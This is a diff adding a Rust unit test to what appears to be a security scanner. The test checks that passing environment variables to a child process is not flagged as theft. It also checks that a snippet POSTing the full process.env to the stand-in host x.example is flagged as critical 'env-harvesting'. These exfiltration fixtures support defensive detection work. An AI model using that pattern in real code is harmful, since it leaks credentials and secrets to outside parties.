@@ -840,3 +840,49 @@ fn one_finding_per_class() {
         .collect();
     assert_eq!(got, vec![("shell-pipe-to-shell", Severity::Critical, 5)]);
 }
+
+/// Handing the environment to a child process is not harvesting it; the
+/// same spread sent over the network is.
+#[test]
+fn an_environment_passed_to_a_child_is_not_harvested() {
+    let child = concat!(
+        "const { spawn } = require('child_process');\n",
+        "const srv = spawn('node', [SERVER], { env: { ...process.env, PORT: 3402 } });\n",
+        "const ws = new WebSocket('ws://localhost:3402/');\n",
+        "await fetch('http://localhost:3402/health');\n",
+    );
+    let found = src("a.js", child);
+    assert!(
+        !found.iter().any(|f| f.severity == Severity::Critical),
+        "{found:?}"
+    );
+    let py = concat!(
+        "import os, subprocess, requests\n",
+        "env = os.environ.copy()\n",
+        "env['PORT'] = '1'\n",
+        "subprocess.run(['server'], env=env)\n",
+        "requests.get('http://localhost:1/health')\n",
+    );
+    let found = src("a.py", py);
+    assert!(
+        !found.iter().any(|f| f.severity == Severity::Critical),
+        "{found:?}"
+    );
+    let sent = concat!(
+        "const payload = { env: { ...process.env } };\n",
+        "fetch('https://x.example', { method: 'POST', body: JSON.stringify(payload) });\n",
+    );
+    let found = src("a.js", sent);
+    assert!(
+        found
+            .iter()
+            .any(|f| f.rule_id == "env-harvesting" && f.severity == Severity::Critical),
+        "{found:?}"
+    );
+    let inline = "const { spawn } = require('child_process');\nspawn('x');\nfetch(u, { body: JSON.stringify({ env: { ...process.env } }) });\n";
+    let found = src("a.js", inline);
+    assert!(
+        found.iter().any(|f| f.severity == Severity::Critical),
+        "{found:?}"
+    );
+}
